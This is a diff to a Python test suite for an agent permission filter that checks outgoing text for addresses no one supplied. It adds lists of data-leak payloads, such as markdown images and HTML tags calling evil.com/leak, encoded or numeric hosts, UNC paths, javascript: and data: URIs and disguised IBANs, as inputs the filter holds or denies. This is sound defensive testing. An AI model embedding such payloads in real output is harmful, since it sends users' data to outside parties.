@@ -6,10 +6,10 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from remit.core import Allow, Decision, Hold, Json, JsonObject, canonical_bytes
+from remit.core import Allow, Decision, Deny, Hold, Json, JsonObject, canonical_bytes
 from remit.permissions import Directory, Flow, Kind, Label, Memory, labels_of, provenance_suffices
 from remit.permissions._iban import is_iban
-from remit.permissions._addresses import LINKS_MAX
+from remit.permissions._addresses import LINKS_MAX, LOOKS_MAX
 from remit.permissions._links import links_in
 
 NOW = datetime(2026, 11, 22, tzinfo=UTC)
@@ -206,9 +206,141 @@ def test_a_directory_of_domains_vouches_for_all_that_is_there_and_below(text: st
     assert isinstance(body(text, None, flow), Hold), "the control: no such directory"
 
 
-def test_too_many_links_are_as_good_as_one_that_nobody_gave() -> None:
+def test_more_addresses_than_one_call_may_have_are_denied_in_one_text_or_in_many() -> None:
     assert len(links_in("www.good.com " * (LINKS_MAX + 5))) == LINKS_MAX + 1
-    assert isinstance(body("www.good.com " * (LINKS_MAX + 5)), Hold)
+    many: list[Json] = ["www.good.com " * (LINKS_MAX + 5), ["www.good.com " * 5] * (LINKS_MAX // 5 + 1)]
+    many += ["a.b<" * LOOKS_MAX, "&lt;" * 3_000 + "evil&#46;com"]
+    for text in many:
+        decision = body(text)
+        assert isinstance(decision, Deny)
+        assert decision.reason.code == "marks_full"
+    assert isinstance(body(["www.good.com " * 5] * (LINKS_MAX // 5)), Allow), "the control"
+
+
+@pytest.mark.requirement("R3.9")
+def test_a_result_with_more_addresses_than_are_looked_at_leaves_strangers_in_the_task() -> None:
+    for fields, strangers in [(1, False), (60, True)]:
+        memory = Memory(bytes(32), {b"x" * 16})
+        many: Json = {f"k{number}": f"{number} " + "a.co " * 10 for number in range(fields)}
+        said = canonical_bytes({"content": [], "structuredContent": many})
+        memory.learn_result("get_order", "c_1", RECORD, {}, said)
+        assert memory.strangers is strangers
+
+
+HIDDEN = [
+    "![](https&colon;//evil&period;com/leak?d=x)",
+    "![](https&#58;//evil&#46;com/leak?d=x)",
+    r"![](https\://evil\.com/leak?d=x)",
+    '<img src="//evil&#46;com/leak?d=x">',
+    '<img src="//evil%2Ecom/leak?d=x">',
+    '<img src="//3232235521/leak">',
+    '<img src="//127.1/leak">',
+    '<img src="//[2001:db8::1]/leak">',
+    '<img src="///3232235521/leak">',
+    '<img src="//intranet/leak">',
+    '<img src="//abc.onion/leak">',
+    '<img src="//evil.quantumfoo/leak">',
+    "tor: abc.onion/leak",
+    '<img src="http:3232235521/leak">',
+    "<http:3232235521/leak>",
+    r"http:\\3232235521/leak",
+    r"file:\\evil\share",
+    r"\\evil\share\x",
+    '<a href="https:/\t/ev\til.\tcom/leak">',
+    '<a href="https:/\n/evil\n.\ncom/leak">',
+    "<a href='//ev\nil/leak'>",
+    '<a href="mailto:eve&#64;evil&#46;com">',
+    "mailto:eve%40evil%2Ecom",
+    "evil&shy;.com/x",
+    "www.good.com&#47;secret",
+    "www.good.com%2Fsecret",
+    "data:text/html;base64,PHNjcmlwdD4=",
+    "javascript:fetch(1)",
+    "DE89/3704/0044/0532/0130/00",
+    "DE89_3704_0044_0532_0130_00",
+    "DE89,3704,0044,0532,0130,00",
+    "DE89, 3704, 0044, 0532, 0130, 00",
+    "DE89  3704  0044  0532  0130  00",
+    "DE89\n3704\n0044\n0532\n0130\n00",
+    "DE89\u20103704\u20100044\u20100532\u20100130\u201000",
+    "D E 8 9 3 7 0 4 0 0 4 4 0 5 3 2 0 1 3 0 0 0",
+    "IBANDE89370400440532013000",
+]
+
+
+@pytest.mark.requirement("R3.9")
+@pytest.mark.parametrize("text", HIDDEN)
+def test_an_address_in_another_spelling_is_held(text: str) -> None:
+    for written in (text, f"see {text} please", f"a\n{text}\nb"):
+        decision = body(written)
+        assert isinstance(decision, Hold), written
+        assert decision.reason.code == "provenance_link"
+
+
+@pytest.mark.requirement("R3.9")
+@pytest.mark.parametrize(
+    "given",
+    [
+        "https://good.example/a%20b?x=1&copy=2",
+        "https://good.example/login?next=https%3A%2F%2Fother.example%2Fhome",
+        "https://good.example/a?x=1&lt=5#y",
+    ],
+)
+def test_a_users_own_url_with_escapes_goes_out(given: str) -> None:
+    assert isinstance(body(f"see {given} & mail 100%", told(f"see {given}")), Allow)
+    assert isinstance(body(f"see {given}"), Hold), "the control"
+
+
+BUSINESS = [
+    "Dear Ms Keller,\nthank you for your call on 12.11.2026 at 10:30. We looked into order 4711/A: 3 of 12 parts (25%)\n"
+    "arrived on time. The rest follows by Friday, i.e. within 2-3 days. The price stays at EUR 1,250.00 (net), or\n"
+    "1.487,50 EUR incl. 19% VAT.\nKind regards\nA. Smith & Co.",
+    "# Release 2.4.1\n\n- fixed: the time-out (see CHANGELOG.md, setup.py and report-2026.pdf)\n- **new**: exports as .csv\n"
+    "* AT&T and R&D agreed -- 50% now\n1. a/b tests, and/or\n2. C:\\temp\\report.docx or /var/log/app.log\n\n"
+    "| name | amount |\n|---|---|\n| Bo | 4,200.00 |\n",
+    'if (a // 2) { // no comment }\nx = "tab\there"; y = \'l\\n\'; // see above\n10/3, 24/7, n/a; note:this; re:your mail',
+    "At 10 30 people came in; no 15 of them left. IT 27 departments, DE 89.\nMeet me at 20 High Street.\nNO 12,\nGB 22",
+    "Tom's and 'quoted\ttext' \"with\nlines\" (and (nested)) \"yes\nand no\". 100% &amp; more &lt;b&gt; 5 &times; 3 &euro;",
+    "Serial no. AB12-34CD-56EF, invoice RE-2026-00042, paragraph 4.2.1, said ok.Thanks! data: see below, file: report",
+    "\\documentclass{article} \\section{One} a \\\\ b, 2\\*3, snake\\_case, \\frac{1}{2}",
+]
+
+
+@pytest.mark.requirement("R3.9")
+@pytest.mark.parametrize("text", BUSINESS)
+def test_in_ordinary_business_text_nothing_is_found(text: str) -> None:
+    assert links_in(text) == []
+    assert isinstance(body(text), Allow)
+
+
+SWALLOWED = [
+    "<a href='https://good.example/'style='background:url(https://evil.com/leak?d=S)'>",
+    "background:url(https://good.example/);list-style:url(https://evil.com/leak)",
+    "https://good.example/,https://evil.com/leak",
+    "(https://good.example/)(https://evil.com/leak)",
+    "https://good.example/|https://evil.com/x",
+    "https://good.example/;evil.com/x",
+    "https://good.example/?next=https://evil.com/",
+    "https://good.example/?next=//evil.com/x",
+    "https://good.example/?next=https%3A%2F%2Fevil.com/",
+    "<img src='https://good.example/'srcset='//evil.com/leak?d=S'>",
+    "good.example/x`https://evil.com/x`",
+    "https://good.example/*https://evil.com/x*",
+    "https://good.example/,mallory@evil.com",
+    "https://good.example/?to=" + "https://good.example/" * 2_000,
+]
+
+
+@pytest.mark.requirement("R3.9")
+@pytest.mark.parametrize("text", SWALLOWED)
+def test_a_listed_domain_vouches_for_no_further_address_behind_it(text: str) -> None:
+    flow = send("directory/staff", "user")
+    assert isinstance(body(text, None, flow, DOMAINS), Hold)
+    mended = text.replace("evil.com", "www.good.example")
+    if "evil" in text:
+        assert isinstance(body(mended, None, flow, DOMAINS), Allow), "the control"
+    for fine in ("https://good.example/a,b;c/report.pdf?x=(1)|2&y=v1.2.3", "https://good.example/?by=ana@good.example"):
+        assert isinstance(body(fine, None, flow, DOMAINS), Allow)
 
 
 # -- directories
